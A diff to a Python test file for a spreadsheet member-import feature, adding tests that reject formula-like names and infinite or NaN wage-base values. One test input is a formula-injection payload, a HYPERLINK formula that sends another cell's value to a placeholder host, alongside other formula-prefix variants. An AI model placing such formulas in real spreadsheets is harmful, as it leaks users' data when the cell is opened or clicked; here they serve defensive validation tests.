@@ -544,12 +544,65 @@ def test_a_formula_in_the_id_column_is_a_row_error(city, chair_a, as_user):
     assert [(r, c) for r, c, _ in errors_of(job)] == [(2, "身份证号")]
 
 
-def test_text_that_merely_starts_with_equals_is_a_legal_odd_name(city, chair_a, as_user):
-    name = '=HYPERLINK("http://x/?"&B1,"点击")'
-    content = workbook_bytes([person(1, name=name)], text_cells={(0, "name")})
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("http://x/?"&B1,"点击")', "\t=1+1", "@SUM(A1)", "+1+1", "-1+1"],
+    ids=["equals", "tab-equals", "at", "plus", "minus"],
+)
+def test_text_that_would_run_as_a_formula_is_a_row_error(city, chair_a, as_user, name):
+    """Even typed as text, a name Excel would run as a formula is refused, not stored
+    (security.md E5): the row says which cell and why, and no row of the file is written."""
+    content = workbook_bytes([person(1), person(2, name=name)], text_cells={(1, "name")})
     job = check_and_commit(as_user(chair_a), city.union_a, content)
-    assert job.status == FileJob.Status.DONE
-    assert Member.objects.get().name == name
+    errors = errors_of(job)
+    assert [(r, c) for r, c, _ in errors] == [(3, "姓名")]
+    assert "公式" in errors[0][2]
+    assert Member.objects.count() == 0
+
+
+def with_cell_xml(content: bytes, old: bytes, new: bytes) -> bytes:
+    """The workbook with one stored cell value replaced in the sheet's XML (what a hostile or
+    broken writer can store, which openpyxl itself never writes)."""
+    src = zipfile.ZipFile(io.BytesIO(content))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for name in src.namelist():
+            data = src.read(name)
+            if name.startswith("xl/worksheets/"):
+                data = data.replace(old, new)
+            dst.writestr(name, data)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("stored", [b"1E+999", b"-1E+999"])
+def test_a_wage_base_that_is_no_number_is_a_row_error(city, chair_a, as_user, stored):
+    """A numeric cell holding `inf` (1E+999 reads as infinity) was stored as a wage base of 0
+    (security.md E5)."""
+    rows = [person(1), person(2, wage_base=Decimal("1234.5"))]
+    content = with_cell_xml(workbook_bytes(rows), b"<v>1234.5</v>", b"<v>" + stored + b"</v>")
+    job = check_and_commit(as_user(chair_a), city.union_a, content)
+    assert [(r, c) for r, c, _ in errors_of(job)] == [(3, "缴费工资基数")]
+    assert Member.objects.count() == 0
+
+
+@pytest.mark.parametrize("stored", [b"inf", b"NaN"])
+def test_a_numeric_cell_the_reader_cannot_parse_fails_the_file_cleanly(
+    city, chair_a, as_user, stored
+):
+    rows = [person(1), person(2, wage_base=Decimal("1234.5"))]
+    content = with_cell_xml(workbook_bytes(rows), b"<v>1234.5</v>", b"<v>" + stored + b"</v>")
+    job = check_and_commit(as_user(chair_a), city.union_a, content)
+    assert job.status == FileJob.Status.FAILED and "无法读取该工作簿" in job.error
+    assert Member.objects.count() == 0
+
+
+@pytest.mark.parametrize("typed", ["inf", "NaN", "-Infinity"])
+def test_a_wage_base_typed_as_inf_is_a_row_error(city, chair_a, as_user, typed):
+    job = check_and_commit(
+        as_user(chair_a), city.union_a, workbook_bytes([person(1), person(2, wage_base=typed)])
+    )
+    assert [(r, c) for r, c, _ in errors_of(job)] == [(3, "缴费工资基数")]
+    assert Member.objects.count() == 0
 
 
 def test_a_nul_or_control_character_in_a_name_is_refused_by_the_form(city):
